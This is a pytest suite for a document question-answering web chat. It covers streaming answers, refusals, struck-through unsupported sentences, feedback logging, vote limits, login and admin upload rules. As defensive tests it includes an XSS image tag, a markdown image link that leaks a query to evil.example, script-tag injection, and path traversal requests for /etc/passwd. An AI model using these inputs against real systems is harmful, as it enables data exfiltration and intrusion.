"""The web chat: `respond` directly, the served app through gradio_client, and what is rendered inert."""

import json
import uuid

import pytest
from pydantic import SecretStr

import rag
from ui import app as ui_app
from ui import corpus, feedback, render, serve
from ui.chat import pairs, respond
from ui.render import inert, sources_html

from .fakes import ReplayChatModel, ScriptedChatModel
from .servers import free_port

Q = "When was the Ottawa Convention signed?"


@pytest.fixture
def scripted_engine(ready_settings, embedder, tmp_path):
    settings = ready_settings.model_copy(
        update={"llm_backend": "local", "conversations_db_url": f"sqlite:///{tmp_path / 'chats.sqlite'}"}
    )
    return rag.Engine(settings, embedder=embedder, llm=ScriptedChatModel())


def test_respond_streams_growing_text_then_cited_answer(scripted_engine):
    outputs = list(respond(Q, [], 4, "local", engine=scripted_engine))
    texts = [t for t, _ in outputs]
    assert texts[0] == "" and "Searching these passages" in outputs[0][1], "evidence comes before any text"
    growing = texts[1:-1]
    assert len(growing) > 3 and all(a and b.startswith(a.rstrip()) for a, b in zip(growing, growing[1:], strict=False))
    final_text, final_sources = outputs[-1]
    assert final_text.endswith("[1].")
    assert (
        "<mark>" in final_sources
        and "id='source-1'" in final_sources
        and "<h3>Sources · well supported</h3>" in final_sources
    )


def test_respond_refuses_out_of_corpus_and_reports_errors_in_one_line(scripted_engine):
    text, sources = list(respond("What is the best recipe for banana bread?", [], 4, "local", engine=scripted_engine))[
        -1
    ]
    assert text == inert(rag.answer.REFUSAL) and "No sources." in sources
    text, _ = list(respond("x" * 5000, [], 4, "local", engine=scripted_engine))[-1]
    assert "limit" in text and "\n" not in text


def test_respond_uses_the_history_for_follow_ups(scripted_engine):
    history = [
        {"role": "user", "content": "What does the Ottawa Convention ban?"},
        {"role": "assistant", "content": "Anti-personnel mines [1]."},
    ]
    list(respond("How many countries have joined it?", history, 4, "local", engine=scripted_engine))
    condense_prompt = scripted_engine.llm("local").calls[0][-1].content
    assert "User: What does the Ottawa Convention ban?" in condense_prompt


def test_a_sentence_the_check_removed_is_shown_struck_through_in_its_place(ready_settings, embedder):
    from .fakes import ReplayChatModel

    reply = (
        "The Ottawa Convention was signed in 1997 [1]. It was signed by 300 countries [1]. "
        "It bans anti-personnel mines [1]."
    )
    engine = rag.Engine(
        ready_settings.model_copy(update={"llm_backend": "local"}), embedder=embedder, llm=ReplayChatModel([reply])
    )
    outputs = list(respond(Q, [], 4, "local", engine=engine))
    streamed, final = outputs[-2][0], outputs[-1][0]
    assert "300 countries" in streamed, "the removed sentence was shown while streaming"
    first, struck, last = final.split(" ~~")[0], final.split("~~")[1], final.split("*")[-1]
    assert "1997" in first and struck == "It was signed by 300 countries." and "anti-personnel" in last
    assert f"*{render.REMOVED_NOTE}*" in final and final.index("1997") < final.index("300") < final.index(
        "anti-personnel"
    )
    assert "<h3>Sources · partly supported</h3>" in outputs[-1][1]  # the evidence label, from the same check
    # the conversation carries the answer forward without what was removed
    history = [{"role": "user", "content": Q}, {"role": "assistant", "content": final}]
    assert (
        "300" not in pairs(history)[0][1]
        and "1997" in pairs(history)[0][1]
        and "anti-personnel" in pairs(history)[0][1]
    )


def test_a_refusal_after_removing_everything_still_shows_what_was_removed():
    shown = render.checked_answer(rag.answer.REFUSAL, True, [("The moon is made of cheese.", False)])
    assert shown.startswith(inert(rag.answer.REFUSAL)) and "~~The moon is made of cheese.~~" in shown
    assert render.without_removed(shown) == inert(rag.answer.REFUSAL)
    assert render.checked_answer("Fine [1].", False, [("Fine [1].", True)]) == "Fine [1]."


def test_model_output_is_rendered_inert():
    text = inert(
        "See <img src=x onerror=alert(1)> ![leak](https://evil.example/?q=secret) [click](https://evil.example) https://evil.example/x"
    )
    assert "<img" not in text and "evil.example/?q" not in text and "](" not in text
    assert "click" in text and "&lt;img" in text and "`https://evil.example/x`" in text


def test_sources_html_escapes_chunk_text():
    text = "a <script>alert(1)</script> b"
    html = sources_html(
        [{"n": 1, "title": "<b>t</b>", "source": "s", "text": text, "marks": [(len(text) - 1, len(text))]}], "Sources"
    )
    assert "<script>" not in html and "&lt;script&gt;" in html and "<mark>b</mark>" in html


def test_feedback_is_appended_as_jsonl_only_for_an_answer_the_session_was_shown(tmp_path, scripted_engine):
    session = uuid.uuid4().hex
    seen = lambda answer, shown: feedback.remember(answer, shown, session, "alice")  # noqa: E731
    final, _ = list(respond(Q, [], 4, "local", engine=scripted_engine, on_answer=seen))[-1]
    path = tmp_path / "fb" / "feedback.jsonl"
    feedback.record_feedback(path, True, final, session=session, owner="alice", max_mb=1)
    for text, where, who in (
        (final, uuid.uuid4().hex, "alice"),
        (final, session, "bob"),
        (final, session, None),
        ("unknown", session, "alice"),
    ):
        with pytest.raises(feedback.Refused, match="no answer this chat showed you"):
            feedback.record_feedback(path, False, text, session=where, owner=who, max_mb=1)
    (row,) = [json.loads(line) for line in path.read_text().splitlines()]
    assert row["liked"] is True and row["question"] == Q and row["citations"][0]["n"] == 1
    assert row["voter"] == "alice" and row["session"] == session

    with pytest.raises(feedback.Refused, match="log is full"):  # the cap: nothing written past it
        feedback.record_feedback(path, True, final, session=session, owner="alice", max_mb=path.stat().st_size / 1e6)
    assert len(path.read_text().splitlines()) == 1


def test_votes_are_limited_per_session_per_minute(tmp_path):
    answer = rag.Answer(
        question=Q, standalone_question=Q, answer="In 1997 [1].", refused=False, citations=[], timings={}
    )
    busy, calm = uuid.uuid4().hex, uuid.uuid4().hex
    for session in (busy, calm):
        feedback.remember(answer, "In 1997 [1].", session, None)
    path = tmp_path / "votes.jsonl"

    def vote(session: str, now: float) -> bool:
        try:
            feedback.record_feedback(path, True, "In 1997 [1].", session=session, owner=None, max_mb=1, now=now)
            return True
        except feedback.Refused as exc:
            assert "votes a minute" in str(exc)
            return False

    assert [vote(busy, 1000.0 + i) for i in range(feedback.VOTES_PER_MINUTE + 5)].count(
        True
    ) == feedback.VOTES_PER_MINUTE
    assert vote(calm, 1040.0), "another session votes on"
    assert vote(busy, 1061.0), "a minute after its first vote, the busy one may again"
    assert json.loads(path.read_text().splitlines()[0])["voter"] == "anonymous"


@pytest.fixture
def served(scripted_engine):
    """The real app served over HTTP on loopback (in this process, so the scripted model stays under control)."""
    port = free_port()
    demo_app, url, _ = serve.launch(scripted_engine, port=port, block=False)
    yield f"http://127.0.0.1:{port}/"
    serve.close_all()


def test_served_app_through_gradio_client(served, scripted_engine):
    from gradio_client import Client

    client = Client(served, verbose=False)
    assert list(client.view_api(print_info=False, return_format="dict")["named_endpoints"]) == ["/respond"]
    job = client.submit(Q, 4, "local", api_name="/respond")
    updates = list(job)
    text, sources, *_ = job.result()
    (saved,) = scripted_engine.conversations.list("")  # the session's conversation, saved
    assert saved.title == Q and saved.turns == 1
    assert len(updates) > 2 and text.endswith("[1].")
    chunk_texts = {d.page_content for d in scripted_engine.store.get()}
    cited = sources.split("<p class='chunk'>")[1].split("</p>")[0]
    import html

    assert html.unescape(cited) in chunk_texts, "the cited source is a real chunk"

    # A follow-up in the same session resolves against the history kept by the server.
    client.predict("How many countries have joined it?", 4, "local", api_name="/respond")
    assert scripted_engine.conversations.get("", saved.id).turns[1].question == "How many countries have joined it?"
    rewrite_request = scripted_engine.llm("local").calls[-2][-1].content
    assert "User: " + Q in rewrite_request

    text, *_ = Client(served, verbose=False).predict(
        "What is the best recipe for banana bread?", 4, "local", api_name="/respond"
    )
    assert text == inert(rag.answer.REFUSAL)


def test_served_app_closes_queue_skipping_routes_and_private_files(served):
    import httpx

    r = httpx.post(served + "gradio_api/api/respond", json={"data": [Q, 4, "local"]}, timeout=10)
    assert r.status_code in (401, 403, 404, 405), r.status_code
    for path in [
        "gradio_api/file=../index/manifest.json",
        "gradio_api/file=/etc/passwd",
        "gradio_api/file=index/manifest.json",
        "file=/etc/passwd",
    ]:
        r = httpx.get(served + path, timeout=10)
        assert r.status_code in (403, 404), (path, r.status_code)
        assert "root:" not in r.text and "collection" not in r.text


def test_cli_serve_refuses_without_an_index(tmp_path):
    import subprocess
    import sys

    run = subprocess.run(
        [sys.executable, "-m", "rag", "serve", "--index", str(tmp_path / "none")],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert run.returncode == 3 and "run `rag ingest` first" in run.stderr


def test_corpus_admin_actions_add_and_remove_documents(tmp_path, embedder, monkeypatch):
    import shutil

    from .helpers import CORPUS

    monkeypatch.chdir(tmp_path)
    shutil.copytree(CORPUS, tmp_path / "corpus")
    engine = rag.Engine(
        rag.Settings(corpus_dir=tmp_path / "corpus", index_dir=tmp_path / "index", llm_backend="extractive"),
        embedder=embedder,
    )
    engine.ingest()
    report = engine.admin.add_file(
        "notes.md", b"# Demining notes\n\nClearing one hectare of minefield took the team eleven days.\n"
    )
    assert report.added == ["corpus/notes.md"] and (tmp_path / "corpus" / "notes.md").is_file()
    assert {d["source"] for d in engine.admin.documents()} >= {"corpus/notes.md"}
    assert engine.search("how long to clear a hectare", k=1)[0].source == "corpus/notes.md"
    with pytest.raises(rag.RagError, match="supported types"):
        engine.admin.add_file("evil.exe", b"MZ")
    with pytest.raises(rag.RagError, match="not an acceptable file name"):
        engine.admin.add_file("../.bashrc", b"x")
    with pytest.raises(rag.RagError, match="not a document of the corpus"):
        engine.admin.remove_document("/etc/passwd")
    report = engine.admin.remove_document("corpus/notes.md")
    assert report.deleted == ["corpus/notes.md"] and not (tmp_path / "corpus" / "notes.md").exists()
    docs = engine.admin.documents()
    assert len(docs) == 2 and all(d["chunks"] > 0 and d["indexed_at"].startswith("20") for d in docs)


def test_admin_actions_are_off_unless_configured(scripted_engine):
    def admin_buttons(admin):
        config = ui_app.build_app(scripted_engine, admin=admin).get_config_file()
        return {c["props"]["value"]: c["props"].get("interactive") for c in config["components"]
                if c.get("type") == "button"
                and c["props"].get("value") in ("Re-index the corpus", "Remove document")}  # fmt: skip

    assert admin_buttons(False) == {"Re-index the corpus": False, "Remove document": False}
    assert admin_buttons(True) == {"Re-index the corpus": True, "Remove document": True}
    with pytest.raises(rag.RagError, match="turned off"):
        corpus.require(False)


@pytest.fixture
def served_with_auth(scripted_engine):
    port = free_port()
    settings = scripted_engine.settings.model_copy(
        update={"max_file_mb": 1.0, "ui_auth": SecretStr("alice:s3cret-pass"), "ui_admin": True, "ui_admins": "alice"}
    )
    engine = rag.Engine(settings, embedder=scripted_engine.embedder, llm=ScriptedChatModel())
    serve.launch(engine, port=port, block=False)
    yield f"http://127.0.0.1:{port}/"
    serve.close_all()


def test_auth_required_and_uploads_over_the_limit_refused(served_with_auth):
    import httpx
    from gradio_client import Client

    assert httpx.get(served_with_auth + "gradio_api/info", timeout=10).status_code in (401, 403)
    with httpx.Client(base_url=served_with_auth, timeout=30) as http:
        assert http.post("login", data={"username": "alice", "password": "wrong"}).status_code in (400, 401)
        assert http.post("login", data={"username": "alice", "password": "s3cret-pass"}).status_code == 200
        big = http.post("gradio_api/upload", files={"files": ("big.txt", b"a" * (2 * 1024 * 1024), "text/plain")})
        assert big.status_code == 413, big.status_code
    client = Client(served_with_auth, auth=("alice", "s3cret-pass"), verbose=False)
    text, *_ = client.predict(Q, 4, "local", api_name="/respond")
    assert "[1]" in text


def test_building_the_app_lists_the_documents_once(scripted_engine, monkeypatch):
    """Listing reads every chunk's metadata (seconds at 100k chunks): the page header, table and dropdown share one
    read."""
    calls = []
    real = scripted_engine.admin.documents
    monkeypatch.setattr(scripted_engine.admin, "documents", lambda: calls.append(1) or real())
    config = ui_app.build_app(scripted_engine, admin=True).get_config_file()
    assert len(calls) == 1
    header = next(c["props"]["value"] for c in config["components"] if c.get("type") == "markdown")
    assert header.startswith(f"# Ask the documents\n{len(real())} documents (")


def test_the_chats_context_choice_reaches_the_answer_and_an_unknown_one_is_the_default(ready_settings, embedder):
    def prompt(depth):
        fake = ReplayChatModel(["x [1]."])
        engine = rag.Engine(ready_settings.model_copy(update={"llm_backend": "local"}), embedder=embedder, llm=fake)
        list(respond("Why are European states leaving the treaty?", [], 4, "local", [], depth, engine=engine))
        return fake.calls[0][-1].content

    short, normal, thorough, unknown = (prompt(d) for d in ("short", "normal", "thorough", "deepest"))
    assert len(short) < len(normal) < len(thorough) and unknown == normal
